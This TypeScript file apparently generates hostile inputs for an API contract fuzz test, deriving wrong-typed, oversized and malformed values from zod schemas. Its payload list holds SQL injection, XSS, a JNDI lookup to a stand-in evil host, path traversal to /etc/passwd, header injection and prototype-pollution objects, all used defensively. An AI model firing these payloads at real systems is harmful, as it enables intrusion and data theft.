// Hostile input generation for the contract fuzz test (issue #8 item 4): from an endpoint's zod schema,
// candidates of wrong types, huge/negative/fractional numbers, unicode, oversized strings, missing and
// extra keys, SQL and script payloads. Only candidates the schema itself refuses are kept, so every one
// must be answered with a 4xx and change nothing. Seeded, so a failure names an input that reproduces.
import { z } from 'zod';

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
interface JsonSchema {
  type?: string | string[];
  properties?: Record<string, JsonSchema>;
  required?: string[];
  enum?: Json[];
  format?: string;
  anyOf?: JsonSchema[];
  items?: JsonSchema;
}

/** mulberry32: a tiny deterministic PRNG. */
export function prng(seed: number) {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export const HOSTILE_STRINGS: string[] = [
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5)',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  '{{7*7}}${7*7}',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00%0d%0aSet-Cookie: x=1',
  '\u0000',
  '\u202eevil\u202c',
  '🦁🔥💸'.repeat(50),
  'ＡＢＣ１２３',
  'x'.repeat(100_000),
  ' ',
  '',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  'null',
  'true',
  '[]',
  '{}',
  '00000000-0000-0000-0000-000000000000',
  'not-a-uuid',
  '2026-02-30T25:61:00Z',
];

export const HOSTILE_NUMBERS: Json[] = [-1, 0, 0.5, 1.5, -0.0001, 1e308, -1e308, 2 ** 53, 2 ** 63, 1e21, '10', '1e3', null, true, [], {}];

const WHOLE_PART: Json[] = [null, [], 'body', 0, true, [[[[[[[[[[[]]]]]]]]]]], Array.from({ length: 5000 }, (_, i) => i)];

function schemaOf(s: z.ZodType): JsonSchema {
  return z.toJSONSchema(s, { unrepresentable: 'any', io: 'input' }) as JsonSchema;
}

function typesOf(p: JsonSchema): string[] {
  if (p.anyOf) return p.anyOf.flatMap(typesOf);
  if (p.enum) return ['enum'];
  return Array.isArray(p.type) ? p.type : p.type ? [p.type] : ['any'];
}

/** A value that looks right for the property (the base every mutation starts from). */
function plausible(p: JsonSchema): Json {
  if (p.enum?.length) return p.enum[0]!;
  const [type] = typesOf(p);
  if (p.format === 'uuid') return '7f1c2f9e-3a51-4c5b-9f0e-2d6b8a4c1e77';
  if (p.format === 'date-time') return new Date(Date.now() + 3_600_000).toISOString();
  switch (type) {
    case 'integer':
    case 'number':
      return 1;
    case 'boolean':
      return true;
    case 'array':
      return [];
    case 'object':
      return {};
    default:
      return 'abc';
  }
}

function wrongFor(p: JsonSchema): Json[] {
  const types = typesOf(p);
  const out: Json[] = [];
  if (types.some((t) => t === 'integer' || t === 'number')) out.push(...HOSTILE_NUMBERS);
  if (types.includes('string') || types.includes('enum')) out.push(...HOSTILE_STRINGS, 12345, false, ['a'], { a: 1 });
  if (types.includes('boolean')) out.push('true', 1, 0, 'yes', null);
  if (types.includes('array'))
    out.push(
      'a,b',
      { 0: 'a' },
      [null],
      Array.from({ length: 10_000 }, () => 'x'),
    );
  out.push(null, { $gt: '' }, ['__proto__']);
  return out;
}

export interface PartGenerator {
  /** Candidates for this part (body: JSON; query/params: string maps), all refused by `schema`. */
  candidates(count: number, rand: () => number): Json[];
}

/** Candidates for one input part; `asStrings` for query and params (they arrive as text). */
export function hostile(schema: z.ZodType, { asStrings = false } = {}): PartGenerator {
  const js = schemaOf(schema);
  const props = js.properties ?? {};
  const names = Object.keys(props);
  const base: Record<string, Json> = Object.fromEntries(names.map((n) => [n, plausible(props[n]!)]));
  const encode = (value: Json): Json => {
    if (!asStrings) return value;
    if (value === null || typeof value !== 'object' || Array.isArray(value)) return value;
    return Object.fromEntries(Object.entries(value).map(([k, v]) => [k, typeof v === 'string' ? v : JSON.stringify(v)]));
  };
  const mutations: (() => Json)[] = [];
  if (!asStrings) for (const whole of WHOLE_PART) mutations.push(() => whole);
  for (const name of names) {
    mutations.push(() => {
      const copy = { ...base };
      delete copy[name];
      return copy;
    });
    for (const wrong of wrongFor(props[name]!)) mutations.push(() => ({ ...base, [name]: wrong }));
  }
  mutations.push(() => ({ ...base, unexpected: 'extra key' }));
  mutations.push(() => JSON.parse('{"__proto__": {"role": "admin"}, "constructor": {"prototype": {"role": "admin"}}}') as Json);
  mutations.push(() => ({ ...base, ['k'.repeat(10_000)]: 1 }));

  return {
    candidates(count, rand) {
      const seen = new Set<string>();
      const out: Json[] = [];
      const refused = (value: Json) => !schema.safeParse(value).success;
      const add = (value: Json) => {
        const encoded = encode(value);
        const key = JSON.stringify(encoded);
        if (seen.has(key) || !refused(encoded)) return;
        seen.add(key);
        out.push(encoded);
      };
      for (const m of mutations) add(m());
      // Then random combinations of two or three mutations until there are enough.
      for (let tries = 0; out.length < count && tries < count * 40; tries++) {
        const pick = () => mutations[Math.floor(rand() * mutations.length)]!();
        const a = pick();
        const b = pick();
        const merged = a && b && typeof a === 'object' && typeof b === 'object' && !Array.isArray(a) && !Array.isArray(b) ? { ...a, ...b, [`k${Math.floor(rand() * 1e6)}`]: HOSTILE_STRINGS[Math.floor(rand() * HOSTILE_STRINGS.length)]! } : b;
        add(merged);
      }
      return out.slice(0, count);
    },
  };
}
